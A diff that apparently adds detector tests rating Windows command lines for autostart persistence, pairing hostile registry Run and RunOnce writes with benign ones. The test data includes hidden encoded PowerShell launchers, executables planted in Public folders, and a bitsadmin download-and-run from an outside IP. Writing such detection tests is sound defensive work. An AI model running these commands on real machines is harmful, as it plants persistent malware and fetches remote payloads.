@@ -357,3 +357,25 @@ def test_libraries_and_office_starts(command, expected):
 ])
 def test_logon_screen_startup_scripts_and_admin_template(command, expected):
     _holds(command, expected)
+
+
+# A Run key (or Winlogon, IFEO, cmd's AutoRun) written by code in any language (autostart_writable.line_code_registry).
+@each_form("command,expected", [
+    (r'[Microsoft.Win32.Registry]::SetValue("HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", '
+     r'"upd", "C:\Users\Public\u.exe")', "medium"),
+    (r"$k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\Microsoft\Windows\CurrentVersion\Run', "
+     rf"$true); $k.SetValue('upd', 'powershell -nop -w hidden -enc {B64}')", "medium"),
+    (r'python -c "import winreg as w; k=w.OpenKey(w.HKEY_CURRENT_USER, r\"Software\Microsoft\Windows\CurrentVersion'
+     r'\Run\", 0, w.KEY_SET_VALUE); w.SetValueEx(k, \"upd\", 0, w.REG_SZ, r\"C:\Users\Public\u.exe\")"', "medium"),
+    (r'(New-Object -ComObject WScript.Shell).RegWrite("HKCU\Software\Microsoft\Windows\CurrentVersion\Run\u", '
+     r'"C:\Users\Public\u.exe", "REG_SZ")', "medium"),
+    (r"[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce', "
+     r"'x', 'cmd /c bitsadmin /transfer j http://198.51.100.7/a.exe %TEMP%\a.exe')", "high"),
+    # everyday
+    (r'[Microsoft.Win32.Registry]::SetValue("HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", '
+     r'"Sync", "C:\Program Files\Sync\sync.exe")', "quiet"),
+    (r'[Microsoft.Win32.Registry]::SetValue("HKEY_CURRENT_USER\Software\MyApp", "Path", "C:\Users\Public\data")',
+     "quiet"),
+])
+def test_run_keys_written_by_code(command, expected):
+    _holds(command, expected)
